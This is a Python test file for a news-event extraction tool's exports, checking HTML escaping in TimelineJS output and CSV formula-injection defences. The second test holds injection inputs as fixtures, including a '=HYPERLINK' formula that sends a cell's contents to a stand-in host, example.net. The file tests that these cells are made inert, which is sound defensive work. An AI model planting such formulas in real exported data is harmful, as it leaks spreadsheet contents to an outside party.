import csv
import io
from pathlib import Path

from conftest import AS_OF, write

from parley.articles.load import load_corpus
from parley.events.consolidate import consolidate
from parley.mentions.classify import classify_all
from parley.mentions.extract import extract_article
from parley.report.exports import records_csv, records_json, timelinejs


def test_timelinejs_gives_what_the_text_gives_and_escapes_it(tmp_path: Path) -> None:
    write(
        tmp_path,
        "a.md",
        "---\npublished: 2025-06-25\noutlet: Example <Wire>\n---\nHeadline\n\n"
        "Prisoners were exchanged on June 19–20. In May, the second round of talks took place in Istanbul. "
        "Talks in <b>Geneva</b> may follow.",
    )
    articles = load_corpus([tmp_path])
    mentions = classify_all([e for a in articles for e in extract_article(a, AS_OF)[0]], articles)
    doc = timelinejs(consolidate(mentions), articles, "T")
    second, first = doc["events"]  # in date order: May, then June
    assert (first["unique_id"], second["unique_id"]) == ("exchange-2025-06-19", "round-2025-05")
    assert first["start_date"] == {"year": "2025", "month": "6", "day": "19"}
    assert first["end_date"] == {"year": "2025", "month": "6", "day": "20"}
    assert second["start_date"] == {"year": "2025", "month": "5"}  # month precision: no day
    assert (first["group"], second["group"]) == ("Prisoner exchange", "Negotiation round")
    assert "Prisoners were exchanged on June 19–20." in first["text"]["text"]
    assert "article a" in first["text"]["text"] and "Example &lt;Wire&gt;" in first["text"]["text"]
    assert first["text"]["headline"]


def test_csv_cells_a_spreadsheet_would_run_are_inert(tmp_path: Path) -> None:
    write(
        tmp_path,
        "a.md",
        "---\npublished: 2025-06-25\n---\nHeadline\n\n"
        '=HYPERLINK("http://example.net/?"&A1,"x") Prisoners were exchanged on June 19.\n\n'
        "@SUM(1+1) The second round of talks took place in Istanbul on June 2.",
    )
    articles = load_corpus([tmp_path])
    events = [e for a in articles for e in extract_article(a, AS_OF)[0]]
    rows = list(csv.DictReader(io.StringIO(records_csv(events))))
    sentences = [r["sentence"] for r in rows]
    assert sentences == ["'" + e.sentence for e in events]  # a leading quote, as OWASP recommends
    assert all(s.startswith(("'=", "'@")) for s in sentences)
    assert '"sentence": "=HYPERLINK' in records_json(events)  # JSON keeps the text as it is
    assert records_csv(events).startswith('"article","date"')  # every cell quoted
